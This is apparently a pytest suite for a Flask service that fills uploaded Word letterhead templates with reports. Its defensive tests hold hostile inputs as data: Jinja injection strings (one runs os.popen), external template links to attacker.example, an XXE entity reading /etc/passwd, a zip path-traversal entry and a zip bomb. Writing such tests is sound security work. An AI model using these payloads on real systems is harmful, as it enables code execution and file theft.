"""Unit templates: a letterhead made in the tests, uploaded, and a report poured in."""
from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib
from pathlib import Path
from typing import Any, Callable

import docx as python_docx
import pytest
from docx.shared import Mm
from flask import Flask
from flask.testing import FlaskClient

from service import create_app
from tests.support import wait_for_job
from service.docx import base_template as T
from service.ooxml.reader import DocxFormatting
from service.unit_templates import UnitTemplateError, inspect_template, pour
from service.model import validate_report

ADMIN = {"Authorization": "Bearer admin-secret"}


def png(width: int = 40, height: int = 20) -> bytes:
    """A small red PNG (a stand-in for a unit's logo)."""
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def split_runs(paragraph: Any, pieces: list[str]) -> None:
    """Type text the way Word stores it after edits: one placeholder over several runs."""
    for i, piece in enumerate(pieces):
        run = paragraph.add_run(piece)
        run.bold = i % 2 == 1  # a formatting change splits runs in Word too


def letterhead(body_placeholder: list[str] | None = None, extra: str | None = None) -> bytes:
    doc = python_docx.Document()
    section = doc.sections[0]
    section.top_margin, section.left_margin = Mm(40), Mm(30)
    header = section.header.paragraphs[0]
    header.add_run().add_picture(io.BytesIO(png()), width=Mm(15))
    split_runs(header, ["{{ 单", "位名称 }}", "（公章）"])
    section.footer.paragraphs[0].text = "地址：青山镇人民路 1 号"
    split_runs(doc.add_paragraph(), ["{{", " 标题 ", "}}"])
    split_runs(doc.add_paragraph(), body_placeholder or ["{{ 正", "文 }}"])
    if extra:
        doc.add_paragraph(extra)
    doc.add_paragraph("联系人：张三　电话：0000-1234567")
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


REPORT = {
    "title": "2025年工作总结",
    "preamble": ["今年以来，我们认真履职。"],
    "sections": [{"heading": "主要工作", "paragraphs": ["内容一。"], "sections": [{"heading": "细项", "paragraphs": ["内容二。"]}]}],
    "signature": "青山镇人民政府",
    "date": "2025-12-05",
}


@pytest.fixture()
def client(app: Flask) -> FlaskClient:
    app.config["ADMIN_KEYS"] = "admin-secret"
    return app.test_client()


@pytest.fixture()
def unit_client(job_app: Flask) -> FlaskClient:
    """``client`` in each storage mode (instance folder, PostgreSQL)."""
    job_app.config["ADMIN_KEYS"] = "admin-secret"
    return job_app.test_client()


def upload(client: FlaskClient, data: bytes, headers: dict[str, str] | None = ADMIN, name: str = "青山镇信笺") -> Any:
    return client.post(
        "/api/v1/unit-templates", data={"file": (io.BytesIO(data), "letterhead.docx"), "name": name},
        content_type="multipart/form-data", headers=headers or {},
    )


def test_placeholders_split_over_runs_are_found() -> None:
    assert inspect_template(letterhead()) == ["标题", "正文", "单位名称"]


def test_upload_list_download_version_delete(unit_client: FlaskClient) -> None:
    client = unit_client
    resp = upload(client, letterhead())
    assert resp.status_code == 201, resp.get_json()
    body = resp.get_json()
    assert body["name"] == "青山镇信笺" and body["version"] == 1 and set(body["placeholders"]) == {"标题", "正文", "单位名称"}
    again = upload(client, letterhead()).get_json()
    assert again["id"] == body["id"] and again["version"] == 2
    listed = client.get("/api/v1/unit-templates").get_json()["unit_templates"]
    assert [(t["id"], t["version"]) for t in listed] == [(body["id"], 2)]
    download = client.get(f"/api/v1/unit-templates/{body['id']}")
    assert download.status_code == 200 and download.data == letterhead() or download.data[:2] == b"PK"
    assert client.delete(f"/api/v1/unit-templates/{body['id']}").status_code == 401
    assert client.delete(f"/api/v1/unit-templates/{body['id']}", headers=ADMIN).status_code == 204
    assert client.get(f"/api/v1/unit-templates/{body['id']}").status_code == 404


def test_upload_needs_the_admin_key(client: FlaskClient, tmp_path: Path) -> None:
    assert upload(client, letterhead(), headers=None).status_code == 401
    assert upload(client, letterhead(), headers={"Authorization": "Bearer wrong"}).status_code == 403
    closed = create_app({"TESTING": True, "INSTANCE_PATH": str(tmp_path / "other")}).test_client()
    resp = upload(closed, letterhead())
    assert resp.status_code == 403 and "ADMIN_KEYS" in resp.get_json()["error"]["message"]


def test_report_poured_into_the_unit_template(unit_client: FlaskClient, tmp_path: Path) -> None:
    client = unit_client
    template_id = upload(client, letterhead()).get_json()["id"]
    resp = client.post("/api/v1/reports", json={**REPORT, "unit_template": template_id})
    assert resp.status_code == 200, resp.get_json()
    doc = python_docx.Document(io.BytesIO(resp.data))
    section = doc.sections[0]
    assert round(section.top_margin.mm) == 40 and round(section.left_margin.mm) == 30  # the unit's page set-up
    assert section.header.paragraphs[0].text == "青山镇人民政府（公章）"
    assert section.footer.paragraphs[0].text == "地址：青山镇人民路 1 号"
    with zipfile.ZipFile(io.BytesIO(resp.data)) as zf:
        assert any(n.startswith("word/media/") for n in zf.namelist())  # the logo is kept
    texts = [p.text for p in doc.paragraphs]
    assert texts[0] == "2025年工作总结"  # {{ 标题 }} filled
    assert texts[1:6] == ["今年以来，我们认真履职。", "一、主要工作", "内容一。", "（一）细项", "内容二。"]
    assert texts[-1] == "联系人：张三　电话：0000-1234567"
    assert "{{" not in "".join(texts)
    fmt = DocxFormatting(resp.data)
    styled = {p.text: (p.format.style_id, p.runs[0].format.east_asia_font, p.runs[0].format.size_pt) for p in fmt.paragraphs() if p.runs}
    assert styled["一、主要工作"] == ("Heading1", "黑体", 16)
    assert styled["内容一。"] == (T.S_BODY, "仿宋_GB2312", 16)
    assert fmt.paragraph_format(next(p for p in fmt.document.iter() if p.tag.endswith("}p") and "".join(p.itertext()) == "内容一。")).line_twips == 579


@pytest.mark.slow
def test_poured_documents_are_schema_valid(tmp_path: Path) -> None:
    from openxml_audit import FileFormat, OpenXmlValidator

    for options in ({}, {"numbering": "word"}, {"font_set": "windows", "seal": True}):
        data = pour(letterhead(), validate_report({**REPORT, "options": options}))
        path = tmp_path / "poured.docx"
        path.write_bytes(data)
        result = OpenXmlValidator(file_format=FileFormat.OFFICE_2019).validate(path)
        assert [str(e) for e in result.errors] == [], options


def test_unknown_unit_template_is_named(unit_client: FlaskClient) -> None:
    client = unit_client
    resp = client.post("/api/v1/reports", json={**REPORT, "unit_template": "ut-nope"})
    assert resp.status_code == 422 and resp.get_json()["error"]["details"][0]["path"] == "/unit_template"
    resp = client.post("/api/v1/reports/batch", json=[REPORT, {**REPORT, "unit_template": "ut-nope"}])
    assert resp.status_code == 422 and resp.get_json()["error"]["details"][0]["path"] == "/1/unit_template"


def test_batch_and_jobs_use_unit_templates(unit_client: FlaskClient) -> None:
    client = unit_client
    template_id = upload(client, letterhead()).get_json()["id"]
    resp = client.post("/api/v1/reports/batch", json=[{**REPORT, "unit_template": template_id, "title": f"报告{i}"} for i in range(3)])
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.data)) as zf:
        first = python_docx.Document(io.BytesIO(zf.read("报告0.docx")))
        assert first.sections[0].header.paragraphs[0].text == "青山镇人民政府（公章）"
    # A job's worker finds the template in the same store (folder or database).
    location = client.post("/api/v1/jobs", json=[{**REPORT, "unit_template": template_id, "title": "任务报告"}]).headers["Location"]
    assert wait_for_job(client, location)["status"] == "done"
    with client.get(location + "/result") as result, zipfile.ZipFile(io.BytesIO(result.data)) as zf:
        doc = python_docx.Document(io.BytesIO(zf.read("任务报告.docx")))
        assert doc.sections[0].header.paragraphs[0].text == "青山镇人民政府（公章）"


@pytest.mark.parametrize("payload", [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ 标题.__class__.__base__ }}",
    "{{ lipsum.__globals__ }}",
    "{{ config }}",
])
def test_template_injection_fails_harmlessly(client: FlaskClient, payload: str) -> None:
    resp = upload(client, letterhead(extra=payload))
    assert resp.status_code == 422
    message = resp.get_json()["error"]["message"]
    assert "占位符" in message and "uid=" not in message


def test_statements_are_refused() -> None:
    with pytest.raises(UnitTemplateError, match="不支持"):
        inspect_template(letterhead(extra="{% for x in range(10) %}x{% endfor %}"))


def rezip(data: bytes, change: Callable[[dict[str, bytes]], None], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    change(parts)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, content in parts.items():
            zf.writestr(name, content)
    return buf.getvalue()


def _macro(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")


def _external(parts: dict[str, bytes]) -> None:
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')


def _upper_case_rels(parts: dict[str, bytes]) -> None:
    """The attack: an external attachedTemplate in a part named ".RELS"."""
    parts["word/_rels/settings.xml.RELS"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/t.dotm" TargetMode="EXTERNAL"/></Relationships>')


def _upper_case_external_image(parts: dict[str, bytes]) -> None:
    parts["word/_rels/document.xml.rels"] = parts.pop("word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="\\\\attacker\\share\\x.png" TargetMode="External"/></Relationships>')
    parts["WORD/_RELS/DOCUMENT.XML.RELS"] = parts.pop("word/_rels/document.xml.rels")


def _attached_template_setting(parts: dict[str, bytes]) -> None:
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rId1"/></w:settings>')


def _entity(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)


def _path_trick(parts: dict[str, bytes]) -> None:
    parts["../../evil.xml"] = b"<x/>"


def _bomb(parts: dict[str, bytes]) -> None:
    parts["word/media/bomb.xml"] = b"\x00" * (60 * 1024 * 1024)


def _no_body(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = parts["word/document.xml"].replace("正".encode(), "甲".encode())


@pytest.mark.parametrize("name, change, status, words", [
    ("macro", _macro, 422, "宏"),
    ("external", _external, 422, "外部链接"),
    ("upper-case-rels", _upper_case_rels, 422, "attachedTemplate"),
    ("upper-case-external", _upper_case_external_image, 422, "外部链接"),
    ("attached-template-setting", _attached_template_setting, 422, "attachedTemplate"),
    ("entity", _entity, 422, "DTD"),
    ("path", _path_trick, 422, "路径"),
    ("bomb", _bomb, 413, "压缩炸弹"),
    ("no-body", _no_body, 422, "{{ 正文 }}"),
])
def test_bad_uploads_are_refused(client: FlaskClient, name: str, change: Callable[[dict[str, bytes]], None], status: int, words: str) -> None:
    resp = upload(client, rezip(letterhead(), change))
    assert resp.status_code == status, resp.get_json()
    assert words in resp.get_json()["error"]["message"]


@pytest.mark.parametrize("data, words", [
    (b"not a zip at all", "zip"),
    (b"", "zip"),
])
def test_non_docx_uploads(client: FlaskClient, data: bytes, words: str) -> None:
    resp = upload(client, data)
    assert resp.status_code == 422 and words in resp.get_json()["error"]["message"]


def test_truncated_upload(client: FlaskClient) -> None:
    data = letterhead()
    resp = upload(client, data[: len(data) // 2])
    assert resp.status_code == 422


def test_two_body_placeholders_are_refused() -> None:
    with pytest.raises(UnitTemplateError, match="有且只有一个"):
        inspect_template(letterhead(extra="{{ 正文 }}"))


def test_poured_document_renders_with_its_letterhead(tmp_path: Path, pdf_of: Callable[[dict[str, bytes]], dict[str, Path]]) -> None:
    from tests.pdfmeasure import read_pages

    data = pour(letterhead(), validate_report(REPORT))
    pages = read_pages(pdf_of({"unit": data})["unit"])
    text = [l.visible for l in pages[0].lines]
    assert text[0] == "青山镇人民政府（公章）"  # the letterhead in the header
    assert "2025年工作总结" in text and "一、主要工作" in text


def test_report_text_is_never_read_as_a_template(client: FlaskClient) -> None:
    template_id = upload(client, letterhead()).get_json()["id"]
    texts = ["公式 {{ 7*7 }} 结束", "价格{{ 标题 }}元", "{{ x }}", "{{ 9**(9**10) }}", "{% for x in y %}"]
    started = time.monotonic()
    resp = client.post("/api/v1/reports", json={**REPORT, "preamble": texts, "unit_template": template_id})
    assert time.monotonic() - started < 60  # a hang guard, not a speed test
    assert resp.status_code == 200, resp.get_json()
    paragraphs = [p.text for p in python_docx.Document(io.BytesIO(resp.data)).paragraphs]
    assert all(t in paragraphs for t in texts)


@pytest.mark.parametrize("expression", ["{{ 标题 * 3 }}", "{{ 'x' * 300000000 }}", "{{ 9**(9**10) }}", "{{ 标题|upper }}"])
def test_placeholders_are_names_only(client: FlaskClient, expression: str) -> None:
    started = time.monotonic()
    resp = upload(client, letterhead(extra=expression))
    assert time.monotonic() - started < 60  # a hang guard, not a speed test
    assert resp.status_code == 422 and "只能是字段名" in resp.get_json()["error"]["message"]


def test_only_field_names_pass_as_placeholders_each_named_with_its_position(client: FlaskClient) -> None:
    """The attack: placeholders that are Jinja expressions but no field name."""
    attack = ["{{ self }}", "{{ 49 }}", "{{ true }}", "{{ 1e999 }}"]
    resp = upload(client, letterhead(extra="前文" + "".join(attack)))
    assert resp.status_code == 422
    message = resp.get_json()["error"]["message"]
    for expression in attack:
        assert f"{expression}（正文第 3 段）" in message, message
    assert client.get("/api/v1/unit-templates").get_json()["unit_templates"] == []


def test_the_web_form_uses_unit_templates_too(client: FlaskClient) -> None:
    """A report carried through the form (e.g. imported JSON) may name a unit template."""
    import re as _re

    page = client.get("/").get_data(as_text=True)
    token = _re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)
    headers = {"X-CSRFToken": token}
    resp = client.post("/web/download", json={**REPORT, "unit_template": "ut-none"}, headers=headers)
    assert resp.status_code == 422
    assert resp.get_json()["error"]["details"][0]["path"] == "/unit_template"
    template_id = upload(client, letterhead()).get_json()["id"]
    resp = client.post("/web/download", json={**REPORT, "unit_template": template_id}, headers=headers)
    assert resp.status_code == 200
    assert python_docx.Document(io.BytesIO(resp.data)).sections[0].header.paragraphs[0].text == "青山镇人民政府（公章）"
